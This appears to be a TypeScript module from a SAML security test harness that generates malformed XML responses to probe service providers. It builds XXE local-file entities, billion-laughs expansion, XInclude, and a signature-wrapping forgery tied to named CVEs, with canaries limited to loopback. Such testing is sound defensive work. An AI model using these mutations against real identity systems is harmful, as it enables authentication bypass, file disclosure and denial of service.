/**
 * @module XML parsing mutations (docs/attacks.md §E). Raw text edits for what a DOM cannot hold — a DTD and
 * entity references, two root elements, content after the root, the XML declaration, duplicate
 * attributes, a bare `&`, 10 000-deep nesting (a DOM round-trip would itself recurse that deep) — and
 * a few DOM edits (XInclude, oversized value). Network canaries point only at 127.0.0.1.
 */
import type { Document, Element } from '@xmldom/xmldom';
import { parseXml, serializeXml } from '../../mock-idp/internal.js';
import type { DomMutation, MutationContext, TextMutation } from '../types.js';
import { editText } from './basic.js';
import { one, signatureOf } from './dom.js';
import { TAIL } from './c14n.js';
import { EVIL_ASSERTION_ID, EVIL_RESPONSE_ID, forgedId, swapIn } from './xsw.js';

/**
 * Where XXE and XInclude payloads point: loopback only, the discard port, so a vulnerable SP's fetch
 * fails fast and never leaves the host. (A listener recording hits is an engine feature to come.)
 */
export const LOOPBACK_CANARY = 'http://127.0.0.1:9/samlspec-canary';

function text(name: string, edit: (xml: string, ctx: MutationContext) => string): TextMutation {
  return editText(name, edit);
}

/** Inserts `prolog` before the root element (after an XML declaration, if any). */
function beforeRoot(xml: string, prolog: string): string {
  const declaration = /^\s*<\?xml[^>]*\?>/.exec(xml)?.[0] ?? '';
  return `${declaration}${prolog}${xml.slice(declaration.length)}`;
}

function rootName(xml: string): string {
  const name = /^(?:\s*<\?xml[^>]*\?>)?\s*<([\w:.-]+)/.exec(xml)?.[1];
  if (!name) throw new Error('no root element found');
  return name;
}

/** Replaces the text content of the first `<element>` (any prefix) that holds only text. */
function editContent(xml: string, element: string, edit: (content: string) => string): string {
  const pattern = new RegExp(`(<(?:[\\w.-]+:)?${element}\\b[^>]*>)([^<]*)(</(?:[\\w.-]+:)?${element}>)`);
  if (!pattern.test(xml)) throw new Error(`no <${element}> with text content found`);
  return xml.replace(
    pattern,
    (_m, open: string, content: string, close: string) => `${open}${edit(content)}${close}`,
  );
}

/** XML-01/02/03: a DOCTYPE for the root with this internal subset. */
export function withDoctype(name: string, subset: string): TextMutation {
  return text(name, (xml) => beforeRoot(xml, `<!DOCTYPE ${rootName(xml)} [${subset}]>`));
}

/** XML-02b: a general external entity (a local file) replaces the text of the first `<element>`. */
export function externalEntityIn(element: string, systemId: string): TextMutation {
  return text(`external entity ${systemId} in <${element}>`, (xml) =>
    beforeRoot(
      editContent(xml, element, () => '&ext;'),
      `<!DOCTYPE ${rootName(xml)} [<!ENTITY ext SYSTEM "${systemId}">]>`,
    ),
  );
}

/** XML-03: `levels` nested entities of `fanout` references each (fanout^levels × "lol"), in `<element>`. */
export function entityExpansion(element: string, levels = 10, fanout = 10): TextMutation {
  const defs = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i < levels; i++) defs.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(fanout)}">`);
  return text(`entity expansion ${fanout}^${levels} in <${element}>`, (xml) =>
    beforeRoot(
      editContent(xml, element, () => `&lol${levels - 1};`),
      `<!DOCTYPE ${rootName(xml)} [${defs.join('')}]>`,
    ),
  );
}

/** XML-04: the signed `${victim}.evil.test` is delivered as `${victim}&t;` with `<!ENTITY t ".evil.test">`. */
export function entitySplicedTail(): TextMutation {
  return text('TAIL spliced through an internal entity', (xml, ctx) => {
    const signed = `>${ctx.identities.victim}${TAIL}<`;
    if (!xml.includes(signed)) throw new Error(`"${signed}" does not occur in the response`);
    const spliced = xml.split(signed).join(`>${ctx.identities.victim}&t;<`);
    return beforeRoot(spliced, `<!DOCTYPE ${rootName(xml)} [<!ENTITY t "${TAIL}">]>`);
  });
}

/**
 * XML-05 (CVE-2022-39353, CVE-2022-39299): two top-level elements — first an IdP-signed element of the
 * baseline login (its signed Assertion; the Response when only the Response is signed), then the same
 * Response with that element's Signature removed and SWAPped. `copied`: the forged Response keeps the
 * signed IDs, so an SP counting IDs across the roots (xml-crypto's duplicate-ID check) refuses it;
 * `fresh`: the forged Response and Assertion get IDs of their own, as the public exploit does, and only
 * the one-root rule is left to refuse it (passport-saml 3.2.1 on @xmldom/xmldom 0.7.6 falls to it).
 */
export function signedAssertionThenForgedResponse(ids: 'copied' | 'fresh' = 'copied'): TextMutation {
  return text(`IdP-signed root followed by a forged Response root (${ids} IDs)`, (xml, ctx) => {
    const doc = parseXml(xml);
    const response = doc.documentElement!;
    const assertion = one(doc, 'Assertion');
    const signed = signatureOf(assertion) ? assertion : response;
    const signature = signatureOf(signed);
    if (!signature) throw new Error('neither the Assertion nor the Response is signed');
    const first = serializeXml(signed);
    signed.removeChild(signature);
    swapIn(response, ctx);
    if (ids === 'fresh') {
      response.setAttribute('ID', forgedId(EVIL_RESPONSE_ID, ctx));
      assertion.setAttribute('ID', forgedId(EVIL_ASSERTION_ID, ctx));
    }
    return `${first}${serializeXml(doc)}`;
  });
}

/** XML-06: something after the root element. */
export function appendAfterRoot(name: string, trailer: string): TextMutation {
  return text(name, (xml) => `${xml}${trailer}`);
}

/** XML-08: an XML declaration naming an encoding other than the UTF-8 actually sent. */
export function declareEncoding(encoding: string): TextMutation {
  return text(`declare encoding ${encoding}`, (xml) => {
    if (/^\s*<\?xml/.test(xml)) throw new Error('the response already has an XML declaration');
    return `<?xml version="1.0" encoding="${encoding}"?>${xml}`;
  });
}

/** XML-09: the first `<element>` start tag gets `attribute` a second time. */
export function duplicateAttribute(element: string, attribute: string, value: string): TextMutation {
  return text(`duplicate @${attribute} on <${element}>`, (xml) => {
    const pattern = new RegExp(`(<(?:[\\w.-]+:)?${element}\\b[^>]*?\\s${attribute}="[^"]*")`);
    if (!pattern.test(xml)) throw new Error(`no <${element}> with @${attribute}`);
    return xml.replace(pattern, `$1 ${attribute}="${value}"`);
  });
}

/** XML-09 / XML-10: raw markup or characters appended inside the first `<element>`'s text. */
export function rawInside(name: string, element: string, raw: string): TextMutation {
  return text(name, (xml) => editContent(xml, element, (content) => `${content}${raw}`));
}

/** XML-10: `depth` nested elements inside the first `<element>`. */
export function deepNesting(element: string, depth: number): TextMutation {
  return rawInside(
    `${depth}-deep nesting in <${element}>`,
    element,
    `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`,
  );
}

function dom(name: string, stage: DomMutation['stage'], apply: (doc: Document) => void): DomMutation {
  return { name, stage, apply };
}

/** XML-07: an XInclude of the loopback canary inside the first `<element>`, signed by the IdP. */
export function xincludeIn(element: string): DomMutation {
  return dom(`XInclude of ${LOOPBACK_CANARY} in <${element}>`, 'before-sign', (doc) => {
    const include = doc.createElementNS('http://www.w3.org/2001/XInclude', 'xi:include');
    include.setAttribute('href', LOOPBACK_CANARY);
    include.setAttribute('parse', 'text');
    one(doc, element).appendChild(include);
  });
}

/** XML-10: an extra Attribute whose value is `bytes` long (kept under the ~1 MB the harness allows). */
export function oversizedAttribute(bytes: number): DomMutation {
  return dom(`${bytes}-byte AttributeValue`, 'after-sign', (doc) => {
    const statement = one(doc, 'AttributeStatement');
    const ns = statement.namespaceURI;
    const attribute = doc.createElementNS(ns, 'Attribute') as Element;
    attribute.setAttribute('Name', 'urn:samlspec:padding');
    const value = doc.createElementNS(ns, 'AttributeValue');
    value.appendChild(doc.createTextNode('A'.repeat(bytes)));
    attribute.appendChild(value);
    statement.appendChild(attribute);
  });
}
